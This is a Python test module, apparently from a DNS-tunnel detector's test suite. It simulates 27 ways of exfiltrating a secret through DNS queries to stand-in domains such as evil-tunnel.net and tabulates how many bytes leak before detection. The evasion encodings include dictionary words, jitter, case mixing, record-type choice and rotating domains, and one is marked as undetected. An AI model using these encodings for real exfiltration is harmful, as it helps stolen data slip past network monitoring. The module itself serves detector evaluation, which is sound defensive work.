"""Tunnels that try not to be seen, and what they cost: bytes out before detection.

    python -m tests.corpora.evasions        prints the table

Each evasion sends a secret of SECRET_BYTES at its own pace; `bound` is the loss that a test holds it to, None where it
is known not to be found.
"""

from __future__ import annotations

import base64
import math
import random
import string
import sys
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass
from itertools import count, pairwise

from agents.core.types import Row
from agents.dns.name import wire_of
from agents.learning.baseline import benign_names
from agents.learning.evaluation import encoded
from agents.scoring.model import Model
from tests.corpora.lookalike_kinds import ALNUM, HEX, token
from tests.support.detecting import START, incidents_of, query

SECRET_BYTES = 4_000
CLIENT = "10.9.0.9"


@dataclass(frozen=True, slots=True)
class Sent:
    """One query, the bytes of the secret that it carries, and the seconds since the one before."""

    name: str | bytes
    carried: float
    after_s: float = 1.0
    qtype: int = 1


@dataclass(frozen=True, slots=True)
class Evasion:
    """A way to send, and the bytes that may leave before it is found."""

    what: str
    send: Callable[[random.Random], Iterator[Sent]]
    bound: float | None


def _plain(rng: random.Random) -> Iterator[Sent]:
    while True:
        yield Sent(f"{encoded(rng, 30)}.evil-tunnel.net", 30)


def _padded(rng: random.Random) -> Iterator[Sent]:
    """Twenty repeats, below its own domain and others, for each name that carries data."""
    while True:
        yield Sent(f"{token(rng, HEX, 24)}.evil-tunnel.net", 12)
        for _ in range(10):
            yield Sent("www.evil-tunnel.net", 0, 0.1)
            yield Sent("www.example.com", 0, 0.1)


def _words() -> list[str]:
    labels = {name.partition(".")[0] for name in benign_names()}
    return sorted(label for label in labels if label.isalpha() and 3 <= len(label) <= 9)


def _joined_words(rng: random.Random) -> Iterator[Sent]:
    """Three labels of up to 63 characters, joined from words that the model knows."""
    words = _words()
    while True:
        labels, count = [], 0
        for _ in range(3):
            label = ""
            while len(label) <= 54:
                label += rng.choice(words)
                count += 1
            labels.append(label)
        yield Sent(f"{'.'.join(labels)}.evil-tunnel.net", count * math.log2(len(words)) / 8)


def _single_words(rng: random.Random) -> Iterator[Sent]:
    """One known word a query, as a host name."""
    words = _words()
    while True:
        yield Sent(f"{rng.choice(words)}.evil-tunnel.net", math.log2(len(words)) / 8)


def _www(rng: random.Random) -> Iterator[Sent]:
    while True:
        yield Sent(f"www.{token(rng, HEX, 16)}.www.evil-tunnel.net", 8)


def _syllables(rng: random.Random) -> Iterator[Sent]:
    """Pronounceable pairs of consonant and vowel, a few letters a query."""
    while True:
        text = "".join(rng.choice("bdfgklmnprstvz") + rng.choice("aeiou") for _ in range(4))
        yield Sent(f"{text}.www.evil-tunnel.net", 4 * math.log2(70) / 8)


def _jitter(rng: random.Random) -> Iterator[Sent]:
    """Pauses from milliseconds to half an hour."""
    while True:
        yield Sent(f"{encoded(rng, 20)}.evil-tunnel.net", 20, min(rng.lognormvariate(3, 2), 1800))


def _random_case(rng: random.Random) -> Iterator[Sent]:
    while True:
        name = f"{encoded(rng, 25)}.evil-tunnel.net"
        yield Sent("".join(rng.choice((letter.lower(), letter.upper())) for letter in name), 25)


def _strange_bytes(rng: random.Random) -> Iterator[Sent]:
    """Base64 with its slash and equals sign, and raw bytes with NUL and dots inside labels, in turns."""
    end = (b"evil-tunnel", b"net")
    while True:
        yield Sent(wire_of((base64.b64encode(rng.randbytes(20)), *end)), 20, qtype=16)
        yield Sent(wire_of((b"\0." + rng.randbytes(40), *end)), 40, qtype=10)


def _short_lived(names_each: int, size: int = 20) -> Callable[[random.Random], Iterator[Sent]]:
    def send(rng: random.Random) -> Iterator[Sent]:
        while True:
            domain = f"{rng.choice(string.ascii_lowercase)}{rng.choice(_words())}{rng.randrange(99)}.com"
            for _ in range(names_each):
                yield Sent(f"{encoded(rng, size)}.{domain}", size, 5)

    return send


def _github(rng: random.Random) -> Iterator[Sent]:
    """github.io is a public suffix: the tunnel's domain is one user's."""
    while True:
        yield Sent(f"{encoded(rng, 30)}.some-user.github.io", 30)


def _github_users(rng: random.Random) -> Iterator[Sent]:
    """The data is split over five users' domains."""
    while True:
        yield Sent(f"{encoded(rng, 30)}.user-{rng.randrange(5)}.github.io", 30)


def _longest(rng: random.Random) -> Iterator[Sent]:
    """Names of 255 octets."""
    while True:
        labels = [token(rng, HEX, size).encode() for size in (63, 63, 63, 45)]
        name = wire_of((*labels, b"evil-tunnel", b"net"))
        assert len(name) == 254
        yield Sent(name, sum(map(len, labels)) / 2)


def _counted(rng: random.Random) -> Iterator[Sent]:
    """Few letters a query: four of base36."""
    while True:
        yield Sent(f"{token(rng, ALNUM, 4)}.evil-tunnel.net", 4 * math.log2(36) / 8, 10)


EIGHT_TYPES = (1, 2, 5, 6, 15, 16, 28, 33)
SIXTEEN_TYPES = (*EIGHT_TYPES, 12, 35, 43, 48, 52, 64, 65, 257)


def _type_choice(types: Sequence[int], name: str = "www.evil-tunnel.net") -> Callable[[random.Random], Iterator[Sent]]:
    """Data in the record type alone; the name never changes."""

    def send(rng: random.Random) -> Iterator[Sent]:
        while True:
            yield Sent(name, math.log2(len(types)) / 8, 1, rng.choice(types))

    return send


def _host_numbers(rng: random.Random) -> Iterator[Sent]:
    """Three digits at a time, as hosts of a fleet are numbered."""
    while True:
        yield Sent(
            "-".join(["ip", *(f"{rng.randrange(1000):03}" for _ in range(5))]) + ".evil-tunnel.net",
            15 * math.log2(10) / 8,
        )


def _free_runs(rng: random.Random) -> Iterator[Sent]:
    """Fifteen digits that stay but for one, cut into eight numbers anew each time."""
    digits = [rng.randrange(10) for _ in range(15)]
    while True:
        digits[rng.randrange(15)] = rng.randrange(10)
        cuts = [0, *sorted(rng.sample(range(1, 15), 7)), 15]
        runs = ["".join(map(str, digits[a:b])) for a, b in pairwise(cuts)]
        if max(map(len, runs)) <= 4:
            yield Sent("-".join(f"h{run}" for run in runs) + ".evil-tunnel.net", 2.0)


def _filled(rng: random.Random) -> Iterator[Sent]:
    """Four bytes a name, a few a quarter of an hour, and half a second before each a name that everybody has."""
    while True:
        yield Sent("www.evil-tunnel.net", 0, 240)
        yield Sent(f"{encoded(rng, 4)}.evil-tunnel.net", 4, 0.5)


def _sparse(rng: random.Random) -> Iterator[Sent]:
    """Three names of five bytes in a second below each new domain: all that a domain is spared, and one burst."""
    for number in count():
        for _ in range(3):
            yield Sent(f"{encoded(rng, 5)}.zone{number}-host.com", 5, 0.4)


EVASIONS = (
    Evasion("base32, no evasion", _plain, 150),
    Evasion("padding: 20 repeats a name", _padded, 150),
    Evasion("63-character labels of dictionary words", _joined_words, 500),
    Evasion("one dictionary word a query", _single_words, 1_000),
    Evasion("names that begin and end in www", _www, 150),
    Evasion("pronounceable syllables", _syllables, 500),
    Evasion("jitter, milliseconds to half an hour", _jitter, 400),
    Evasion("0x20 case", _random_case, 150),
    Evasion("slash, equals sign, NUL and dots in labels", _strange_bytes, 150),
    Evasion("a new domain every 10 names", _short_lived(10), 250),
    Evasion("a new domain every 3 names", _short_lived(3), 400),
    Evasion("a new domain every 2 names", _short_lived(2), 400),
    Evasion("a new domain every name", _short_lived(1), 400),
    Evasion("a new domain every name, 5 bytes each", _short_lived(1, 5), None),
    Evasion("below one user of github.io", _github, 150),
    Evasion("over five users of github.io", _github_users, 500),
    Evasion("names of 255 octets", _longest, 350),
    Evasion("four characters a query", _counted, 150),
    Evasion("the numbers of hosts", _host_numbers, 900),
    Evasion("how digits are cut into numbers", _free_runs, 100),
    Evasion("a known name before each of four bytes", _filled, 150),
    Evasion("three short names at once below each of many domains", _sparse, 500),
    Evasion("the choice among eight record types alone", _type_choice(EIGHT_TYPES), 200),
    Evasion("the choice among sixteen record types alone", _type_choice(SIXTEEN_TYPES), 200),
    Evasion("the same, of a domain's own name", _type_choice(SIXTEEN_TYPES, "evil-tunnel.net"), 250),
    Evasion("the choice among all record types alone", _type_choice(range(1, 1 << 16)), 450),
    Evasion("the choice among seven record types alone", _type_choice((1, 2, 5, 15, 16, 28, 65)), 200),
)


@dataclass(frozen=True, slots=True)
class Loss:
    """What one evasion got out before it was found (or in all), and where it was found."""

    bytes_out: float
    queries: int
    seconds: float
    domain: str | None


def loss_of(evasion: Evasion, model: Model | None = None) -> Loss:
    """Send the secret, and see when an incident is opened."""
    rows: list[Row] = []
    total: list[float] = []
    ts, carried = START, 0.0
    for sent in evasion.send(random.Random(evasion.what)):
        ts, carried = ts + sent.after_s, carried + sent.carried
        rows.append(query(ts, CLIENT, sent.name, sent.qtype))
        total.append(carried)
        if carried >= SECRET_BYTES:
            break
    found = next(iter(incidents_of(rows, model)), None)
    if found is None:
        return Loss(carried, len(rows), ts - START, None)
    queries = sum(row[0] <= found.detected_at for row in rows)
    return Loss(total[queries - 1], queries, found.detected_at - START, found.domain)


def main() -> None:
    lines = ["| evasion | bytes out before detection | queries | seconds |", "| --- | ---: | ---: | ---: |"]
    for evasion in EVASIONS:
        loss = loss_of(evasion)
        out = f"{loss.bytes_out:,.0f}" if loss.domain else f"not found in {loss.bytes_out:,.0f}"
        lines.append(f"| {evasion.what} | {out} | {loss.queries:,} | {loss.seconds:,.0f} |")
    sys.stdout.write("\n".join(lines) + "\n")


if __name__ == "__main__":
    main()
